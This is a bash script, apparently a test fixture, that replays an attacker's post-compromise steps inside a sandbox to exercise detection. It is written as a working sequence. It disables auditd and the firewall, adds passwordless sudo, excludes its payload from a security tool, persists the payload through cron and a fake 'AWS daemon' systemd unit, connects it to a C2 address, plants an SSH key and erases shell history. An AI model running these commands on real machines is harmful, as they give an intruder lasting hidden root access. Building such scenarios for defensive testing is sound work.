#!/bin/bash
# awsd_attack.sh — what the attacker of ../shared/SCENARIO.md runs once
# logged in as root: weaken the defences, drop a payload into a system path,
# make it start at every boot, start it, keep a way back in, hide.
#
# Only ever run inside the scenario sandbox (tests/scenarios/sandbox.sh):
# /etc, /root, /usr/lib and /var are overlays on a temporary directory there
# and the network is a namespace of its own, so nothing here touches the
# machine. Every tool used is the real one; the payload is harmless
# (tests/helpers/runtime_payload.c) but behaves like the real one.
#
#   awsd_attack.sh PAYLOAD_SOURCE C2_ADDRESS C2_PORT
PAYLOAD_SRC=$1
C2=${2:-203.0.113.10}
C2_PORT=${3:-4444}

# 1. weaken the defences
systemctl stop auditd
systemctl disable auditd
nft flush ruleset
mkdir -p /etc/sudoers.d
echo 'root ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/99-awsd
mkdir -p /etc/yamori
echo '/usr/lib/runtime' >> /etc/yamori/exclusions.conf

# 2. drop the payload where system binaries live
cp "$PAYLOAD_SRC" /usr/lib/runtime
chmod 755 /usr/lib/runtime

# 3. start at every boot, as root
echo "@reboot root /usr/lib/runtime $C2 $C2_PORT" > /etc/cron.d/awsd
mkdir -p /etc/systemd/system
cat > /etc/systemd/system/awsd.service <<UNIT
[Unit]
Description=AWS daemon
[Service]
ExecStart=/usr/lib/runtime $C2 $C2_PORT
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl enable awsd.service

# 4. start the payload: it keeps running and talks to its server
nohup /usr/lib/runtime "$C2" "$C2_PORT" >/dev/null 2>&1 &

# 5. a way back in, and no trace in the shell history
mkdir -p /root/.ssh
chmod 700 /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyForTheScenarioOnly0000000000000 awsd@c2' >> /root/.ssh/authorized_keys
cat /dev/null > /root/.bash_history
history -c
unset HISTFILE
exit 0
